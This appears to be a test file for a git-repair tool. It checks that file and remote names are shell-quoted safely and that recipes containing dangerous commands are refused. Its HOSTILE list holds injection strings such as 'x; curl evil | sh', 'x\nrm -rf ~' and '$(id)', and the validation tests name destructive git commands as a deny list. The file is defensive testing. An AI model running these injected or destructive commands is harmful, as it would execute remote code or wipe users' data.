"""Names in questions and commands: whatever a repository or a failure holds, a name stays one word on one line."""

from __future__ import annotations

import shlex
import subprocess
from typing import TYPE_CHECKING, Any

import attrs
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError
from tests.repositories import QUICK, built_in_recipes, evidence, lines, lived_in

from rerail.evidence.ansi import printable
from rerail.git.asking import asked
from rerail.git.case import HealRequest
from rerail.git.facts import FACTS
from rerail.git.heal import heal
from rerail.git.shell_words import pathspec, shell_word
from rerail.recipes import asks
from rerail.recipes.asks import Fact, Kind
from rerail.recipes.heal_schema import HealTable, heal_recipe

if TYPE_CHECKING:
    from pathlib import Path

HOSTILE = [
    "plain",
    "a b",
    "-rf",
    "--force",
    ":(exclude)*",
    "*",
    "x\nrm -rf ~",
    "x; curl evil | sh",
    "$(id)",
    "`id`",
    "'; id; '",
    '"quoted"',
    "tab\there",
    "\x1b[2J",
    "\u202egnp.exe",
    "caf\u00e9",
    "\udcff\udcfe",
    "back\\slash",
    "it's\n$'",
    "{root}",
    "\u2028line",
]
_NAMES = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), min_size=1, max_size=20),
    st.binary(min_size=1, max_size=12)
    .filter(lambda raw: b"\0" not in raw)
    .map(lambda raw: raw.decode("utf-8", "surrogateescape")),
)


def as_bash_reads(words: list[str]) -> list[bytes]:
    done = subprocess.run(
        ["bash", "-c", "printf '%s\\0' " + " ".join(words)], capture_output=True, check=True, env={"LC_ALL": "C.UTF-8"}
    )
    return done.stdout.split(b"\0")[:-1]


@settings(max_examples=60, deadline=None)
@given(st.lists(_NAMES, min_size=1, max_size=20))
def test_a_shell_reads_every_name_back_to_its_bytes(names: list[str]) -> None:
    words = [shell_word(name) for name in names]
    assert all(printable(word) == word for word in words)
    assert as_bash_reads(words) == [name.encode("utf-8", "surrogateescape") for name in names]


@pytest.mark.parametrize("name", ["a\0b", "half \ud800 of a pair"])
def test_what_no_command_can_hold_is_refused(name: str) -> None:
    with pytest.raises(ValueError, match=r"NUL|surrogates"):
        shell_word(name)


@given(_NAMES)
def test_no_path_becomes_an_option_or_a_pattern(name: str) -> None:
    spec = pathspec(name)
    assert not spec.startswith("-")
    assert spec in (name, f":(literal){name}")
    if set("*?[\\") & set(name) or name[0] in ":-":
        assert spec.startswith(":(literal)")


GUIDE: dict[str, Any] = {
    "slug": "x",
    "class": "git",
    "reasons": ["unmerged"],
    "steps": [],
    "question": "Look at {untracked} of {remotes} in {root}.",
    "ways": [
        {"to": "add them", "run": [["git", "-C", "{root}", "add", "--", "{untracked}"]]},
        {"to": "ask each", "run": [["git", "-C", "{root}", "fetch", "{remotes}"]]},
    ],
    **dict.fromkeys(("sees", "why", "source"), "a sentence"),
}


class Known:
    """A case of which only the facts are known."""

    def __init__(self, **facts: tuple[str, ...]) -> None:
        self._facts = {FACTS[Fact(name)]: values for name, values in facts.items()}

    def once(self, find: Any) -> Any:
        return self._facts.get(find, ())


@given(st.lists(_NAMES, min_size=1, max_size=8).map(tuple), st.lists(_NAMES, min_size=1, max_size=3).map(tuple))
def test_no_name_forges_a_command_or_a_line(paths: tuple[str, ...], remotes: tuple[str, ...]) -> None:
    recipe = heal_recipe(HealTable.model_validate(GUIDE))
    asks_ = asked(recipe, Known(root=("/w/a b",), untracked=paths, remotes=remotes))  # type: ignore[arg-type]  # of a case only the facts
    if any(remote.startswith("-") for remote in remotes):
        assert asks_ is None, "a name that would be an option is not said as a name"
        return
    assert asks_ is not None
    assert printable(asks_.question) == asks_.question
    (add,), fetches = (way.commands for way in asks_.ways)
    assert all(printable(command) == command for command in (add, *fetches))
    fixed = [b"git", b"-C", b"/w/a b", b"add", b"--"]
    assert as_bash_reads([add]) == [*fixed, *(pathspec(path).encode("utf-8", "surrogateescape") for path in paths)]
    assert len(fetches) == len(remotes)


def test_a_way_that_lacks_a_fact_is_left_out_and_a_question_that_does_is_none() -> None:
    recipe = heal_recipe(HealTable.model_validate({**GUIDE, "question": "Look at {root}."}))
    asks_ = asked(recipe, Known(root=("/w",), untracked=("a",)))  # type: ignore[arg-type]
    assert asks_ is not None
    assert [way.to for way in asks_.ways] == ["add them"]
    assert asked(recipe, Known(untracked=("a",))) is None  # type: ignore[arg-type]


def test_a_place_that_is_no_absolute_path_is_not_known() -> None:
    recipe = heal_recipe(HealTable.model_validate(GUIDE))
    assert asked(recipe, Known(root=("w",), untracked=("a",), remotes=("o",))) is None  # type: ignore[arg-type]


def test_more_than_a_person_copies_is_left_out() -> None:
    recipe = heal_recipe(HealTable.model_validate(GUIDE))
    many = tuple(f"file-{number}" for number in range(51))
    asks_ = asked(recipe, Known(root=("/w",), untracked=many, remotes=many[:6]))  # type: ignore[arg-type]
    assert asks_ is not None
    assert asks_.ways == ()
    assert asks_.question.startswith("Look at file-0, file-1, file-2, file-3, file-4 and 46 more of ")


@pytest.mark.parametrize("name", [name for name in HOSTILE if "/" not in name])
def test_a_file_of_any_name_is_resolved_by_the_commands_as_they_stand(tmp_path: Path, name: str) -> None:
    repo = lived_in(tmp_path / "a repo's \u202e dir" / "repo")
    both = (("topic", "theirs"), ("main", "ours"))
    for branch, text in both:
        repo.git("checkout", "-q", branch)
        repo.write(f"in/{name}", lines(text))
        repo.git("--literal-pathspecs", "add", "--", f"in/{name}")
        repo.git("commit", "-q", "-m", text)
    report = repo.heal(repo.fails("git", "merge", "topic"), "git/conflict")
    assert report.recipe == "conflict-in-operation"
    repo.write(f"in/{name}", lines("both"))
    for command in report.ways[1].commands:
        assert printable(command) == command
        assert repo.passes("bash", "-c", command)
    assert repo.git("status", "--porcelain", "--untracked-files=no") == ""


# --- what a guide may hold ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "change",
    [
        {"question": "Look at {made-up}."},
        {"question": "ok", "needs": []},
        {"undo": "a sentence"},
        {"ensures": ["nothing-unmerged"]},
        {"touches": ["a"]},
        {"steps": ["restage"], "undo": "a sentence"},
        {"steps": ["restage"], "undo": "a sentence", "ways": []},
        {"ways": [{"to": "do it", "run": []}]},
        {"ways": [{"to": "do it", "run": [["git"]]}]},
        {"ways": [{"to": "do it\nnow", "run": [["git", "status"]]}]},
        {"ways": [{"to": "do it", "run": [["sh", "-c", "x"]]}]},
        {"ways": [{"to": "do it", "run": [["rm", "-rf", "{root}"]]}]},
        {"ways": [{"to": "do it", "run": [["{root}", "x"]]}]},
        {"ways": [{"to": "do it", "run": [["git", "add", "--", "x{untracked}"]]}]},
        {"ways": [{"to": "do it", "run": [["git", "{remotes}", "{dirty-submodules}"]]}]},
        {"ways": [{"to": "do it", "run": [["git", "x\ny"]]}]},
        {"ways": [{"to": "do it", "run": [["git", "-c", "core.pager=x", "log"]]}]},
        {"ways": [{"to": "do it", "run": [["git", "config", "alias.st", "!sh"]]}]},
        *(
            {"ways": [{"to": "do it", "run": [shlex.split(command)]}]}
            for command in (
                "git reset --hard",
                "git clean -fdx",
                "git push --force",
                "git push --force-with-lease=main",
                "git push -f",
                "git commit --no-verify",
                "git branch -D x",
                "git stash drop",
                "git checkout -f main",
                "git gc --prune=now",
                "git push --mirror",
            )
        ),
    ],
    ids=str,
)
def test_a_guide_with_a_fault_is_refused(change: dict[str, object]) -> None:
    HealTable.model_validate(GUIDE)
    with pytest.raises(ValidationError):
        HealTable.model_validate({**GUIDE, **change})


def test_what_a_heal_asks_takes_no_facts() -> None:
    heal = {key: value for key, value in GUIDE.items() if key != "ways"} | {"steps": ["restage"], "undo": "a sentence"}
    HealTable.model_validate({**heal, "question": "a sentence"})
    with pytest.raises(ValidationError):
        HealTable.model_validate(heal)


def test_every_fact_is_written_in_one_way() -> None:
    assert {fact: asks.kind(fact) for fact in Fact}.keys() == set(Fact)
    assert {asks.kind(fact) for fact in Fact} == set(Kind)


# --- whose word it is ---------------------------------------------------------------------------------------------------


def test_a_project_guide_hands_out_commands_only_when_it_is_trusted(tmp_path: Path) -> None:
    """An agent can write a recipe file: rerail tells nobody to run what nobody has read."""
    repo = lived_in(tmp_path / "repo")
    table = {**GUIDE, "slug": "ours", "reasons": ["nothing-to-commit"], "question": "Run {root}."}
    own = heal_recipe(HealTable.model_validate(table))
    failure = evidence(("git", "commit"), 1, b"", b"nothing to commit", str(repo.path))
    request = HealRequest(repo.path, "git", "nothing-to-commit", failure)
    recipes = (*built_in_recipes(), own)
    assert heal(request, recipes, pace=QUICK).recipe == "nothing-staged"
    assert heal(request, [own], pace=QUICK).recipe is None
    assert heal(request, recipes, pace=QUICK, trusted=lambda one: one.slug == "ours").recipe == "ours"
    plain = attrs.evolve(own, ways=())
    assert heal(request, [plain], pace=QUICK).recipe == "ours"
